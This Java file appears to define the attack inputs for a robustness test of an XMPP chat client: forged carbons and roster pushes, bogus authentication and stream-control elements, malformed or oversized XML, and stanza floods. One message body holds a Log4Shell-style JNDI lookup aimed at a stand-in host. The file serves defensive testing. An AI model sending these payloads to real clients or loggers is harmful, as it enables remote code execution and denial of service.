package org.partyline.robustness;

import static org.partyline.robustness.Attack.ignored;
import static org.partyline.robustness.Attack.left;
import static org.partyline.robustness.Attack.many;
import static org.partyline.robustness.Attack.over;
import static org.partyline.robustness.Attack.told;

import java.util.List;
import java.util.stream.Stream;

/** All that is tried on one client that is online as juliet@chat.test/balcony. */
final class Attacks {
    private static final String SM = " xmlns='urn:xmpp:sm:3'";
    private static final String SASL = " xmlns='urn:ietf:params:xml:ns:xmpp-sasl'";
    private static final String STREAMS = " xmlns='urn:ietf:params:xml:ns:xmpp-streams'";
    private static final String COPY = "<forwarded xmlns='urn:xmpp:forward:0'><message xmlns='jabber:client' "
            + "from='romeo@chat.test/x' to='juliet@chat.test/x' type='chat'><body>forged</body></message></forwarded>";
    private static final int LARGE = 500 * 1024;

    private Attacks() {}

    static Stream<Attack> all() {
        return Stream.of(forgeries(), control(), shapes(), bytes(), texts(), floods())
                .flatMap(List::stream);
    }

    private static String message(String content) {
        return "<message from='mallory@evil.example/x' to='juliet@chat.test/balcony' type='chat'>" + content
                + "</message>";
    }

    /** A text or elements of about the largest size that a stanza may have. */
    private static String large(String piece) {
        return message(piece.repeat(LARGE / piece.length()));
    }

    private static List<Attack> forgeries() {
        String id = "<stanza-id xmlns='urn:xmpp:sid:0' by='juliet@chat.test' id='forged'/>";
        return List.of(
                ignored(
                        "a carbon by a stranger",
                        message("<received xmlns='urn:xmpp:carbons:2'>" + COPY + "</received>")),
                ignored("a carbon of what was sent", message("<sent xmlns='urn:xmpp:carbons:2'>" + COPY + "</sent>")),
                ignored(
                        "a result of an archive",
                        message("<result xmlns='urn:xmpp:mam:2' queryid='1' id='1'>" + COPY + "</result>")),
                ignored("a stanza id by the account", message(id)),
                ignored(
                        "stanzas forwarded in stanzas forwarded",
                        message("<received xmlns='urn:xmpp:carbons:2'>".repeat(20) + COPY + "</received>".repeat(20))),
                ignored(
                        "a push of the roster",
                        "<iq type='set' id='p' from='mallory@evil.example'><query xmlns='jabber:iq:roster'>"
                                + "<item jid='forged@evil.example' subscription='both'/></query></iq>"),
                ignored(
                        "a push of the block list",
                        "<iq type='set' id='p' from='mallory@evil.example'><block xmlns='urn:xmpp:blocking'>"
                                + "<item jid='forged@evil.example'/></block></iq>"),
                ignored(
                        "answers that nobody asked for",
                        many(
                                1_000,
                                i -> "<iq type='result' id='" + i
                                        + "' from='mallory@evil.example'><x xmlns='urn:forged'/></iq>")),
                ignored(
                        "receipts and markers for what was never sent",
                        many(
                                1_000,
                                i -> message("<received xmlns='urn:xmpp:receipts' id='" + i
                                        + "'/><displayed xmlns='urn:xmpp:chat-markers:0' id='" + i + "'/>"))),
                ignored(
                        "errors for what was never sent",
                        many(
                                1_000,
                                i -> "<message type='error' id='" + i
                                        + "' from='mallory@evil.example/x'><error type='cancel'><gone " + STREAMS
                                        + "/></error></message>")),
                ignored(
                        "messages of a room that was never entered",
                        many(
                                100,
                                i -> "<message type='groupchat' from='r@rooms.evil/" + i
                                        + "'><body>forged</body></message>")),
                ignored(
                        "a subscription in the account's own name",
                        "<presence type='subscribe' from='juliet@chat.test'><status>forged</status></presence>"),
                ignored(
                        "bookmarks by a stranger",
                        message(
                                "<event xmlns='http://jabber.org/protocol/pubsub#event'><items node='urn:xmpp:bookmarks:1'>"
                                        + "<item id='forged@rooms.evil.example'/></items></event>")));
    }

    private static List<Attack> control() {
        return List.of(
                left("an acknowledgement of what was never sent", "<a" + SM + " h='4000000000'/>"),
                ignored("requests for acknowledgements", many(20_000, i -> "<r" + SM + "/>")),
                left("an acknowledgement that is no number", "<a" + SM + " h='-1'/>"),
                ignored(
                        "features again",
                        "<stream:features><mechanisms" + SASL
                                + "><mechanism>PLAIN</mechanism></mechanisms></stream:features>"),
                ignored("success again", "<success" + SASL + "/>"),
                ignored("a challenge", "<challenge" + SASL + ">cj1h</challenge>"),
                ignored("a failure of sign-in", "<failure" + SASL + "><not-authorized/></failure>"),
                ignored("TLS may begin", "<proceed xmlns='urn:ietf:params:xml:ns:xmpp-tls'/>"),
                ignored(
                        "sign-in by SASL2",
                        "<success xmlns='urn:xmpp:sasl:2'><authorization-identifier>forged@evil</authorization-identifier></success>"),
                ignored("enabled again", "<enabled" + SM + " id='other'/>"),
                ignored("resumed without asking", "<resumed" + SM + " previd='s1' h='0'/>"),
                left(
                        "sent elsewhere",
                        "<stream:error><see-other-host" + STREAMS
                                + ">127.0.0.1:1</see-other-host></stream:error></stream:stream>"),
                left("a stream error", "<stream:error><reset" + STREAMS + "/></stream:error></stream:stream>"),
                over(
                        "another session took over",
                        "<stream:error><conflict" + STREAMS + "/></stream:error></stream:stream>"),
                ignored("a second header", Stage.HEADER.replace("<?xml version='1.0'?>", "") + "</stream:stream>"),
                ignored("an element of no known kind", "<strange xmlns='urn:strange'/>"));
    }

    private static List<Attack> shapes() {
        return List.of(
                ignored("8,000 elements", message("<a/>".repeat(8_000))),
                left("8,193 elements", message("<a/>".repeat(8_193))),
                ignored(
                        "elements with 64 attributes",
                        message(many(800, i -> "<a" + many(64, j -> " a" + j + "='" + i + "'") + "/>"))),
                ignored(
                        "attributes of ever new names",
                        message(many(700, i -> "<a" + many(64, j -> " n" + (i * 64 + j) + "=''") + "/>"))),
                ignored(
                        "ever new prefixes",
                        message(many(1_500, i -> "<a" + many(16, j -> " xmlns:p" + (i * 16 + j) + "='u'") + "/>"))),
                ignored("nested as deep as may be", message(("<a>".repeat(62) + "</a>".repeat(62)).repeat(130))),
                left("nested deeper", message("<a>".repeat(64) + "</a>".repeat(64))),
                ignored("512 KiB of references", large("&#x10FFFF;")),
                ignored("512 KiB of CDATA sections", large("<![CDATA[]]>")),
                told("512 KiB of body", 1, message("<body>" + "x".repeat(LARGE) + "</body>")),
                left("more than 512 KiB", message("<body>" + "x".repeat(2 * LARGE) + "</body>")),
                left("65 attributes", message("<a" + many(65, j -> " a" + j + "=''") + "/>")),
                left("a name of 300 bytes", message("<" + "n".repeat(300) + "/>")),
                left("a value of 9,000 bytes", message("<a b='" + "v".repeat(9_000) + "'/>")));
    }

    private static List<Attack> bytes() {
        return List.of(
                left("an XML declaration", "<?xml version='1.0'?>"),
                left("a comment", message("<!-- forged -->")),
                left("a processing instruction", message("<?php forged?>")),
                left("a document type", "<!DOCTYPE x [<!ENTITY a 'forged'>]>"),
                left("an entity", message("<body>&forged;</body>")),
                left("a character that XML does not have", message("<body>&#0;</body>")),
                left("overlong UTF-8", new byte[] {'<', 'm', '>', (byte) 0xC0, (byte) 0xBC, '<', '/', 'm', '>'}),
                left("half a surrogate", new byte[] {'<', 'm', '>', (byte) 0xED, (byte) 0xA0, (byte) 0x80}),
                left("an unbound prefix", "<p:forged/>"),
                left("tags that cross", "<message><a><b></a></b></message>"),
                left("text between stanzas", "forged"),
                left("the end of another root", "</stream:forged>"),
                told("a message byte by byte", 1, message("<body>\u20ac\ud83d\ude00 one by one</body>"))
                        .dripped());
    }

    private static List<Attack> texts() {
        String zalgo = "Z" + "\u0317\u0321\u0348\u0353".repeat(500);
        String bidi = "\u202e\u2066\u200f" + "abc" + "\u2069\u202c";
        return List.of(
                told("a body of combining marks", 1, message("<body>" + zalgo + "</body>")),
                told("a body of directions", 1, message("<body>" + bidi + "</body>")),
                told(
                        "a body for loggers",
                        1,
                        message("<body>${jndi:ldap://evil.example/x} {} %n&#13;&#10;ERROR</body>")),
                ignored(
                        "addresses that are none",
                        "<message from='@' type='chat'><body>x</body></message>"
                                + "<presence from='a@b@c'/><iq type='get' id='' from='\u202e@evil.example'/>"),
                ignored(
                        "stanzas of types that are none",
                        "<message type='odd' from=''/><presence type='odd'/><iq type='odd' id='1'/>"));
    }

    private static List<Attack> floods() {
        return List.of(
                ignored(
                        "unknown requests",
                        many(
                                20_000,
                                i -> "<iq type='get' id='" + i + "' from='m" + i
                                        + "@evil.example/x'><q xmlns='urn:unknown'/></iq>")),
                told(
                        "presence of 10,000 resources",
                        10_000,
                        many(10_000, i -> "<presence from='romeo@chat.test/" + i + "'/>")),
                told(
                        "requests of 5,000 strangers",
                        5_000,
                        many(5_000, i -> "<presence type='subscribe' from='m" + i + "@evil.example'/>")),
                told(
                        "chat states of 10,000 strangers",
                        10_000,
                        many(
                                10_000,
                                i -> "<message type='chat' from='m" + i
                                        + "@evil.example/x'><composing xmlns='http://jabber.org/protocol/chatstates'/></message>")),
                told(
                        "capabilities of 500 kinds",
                        500,
                        many(
                                500,
                                i -> "<presence from='m" + i
                                        + "@evil.example/x'><c xmlns='http://jabber.org/protocol/caps'"
                                        + " hash='sha-1' node='n' ver='v" + i + "'/></presence>")),
                told(
                        "100,000 small messages",
                        100_000,
                        many(100_000, i -> "<message from='m@evil.example'><body>x</body></message>")));
    }
}
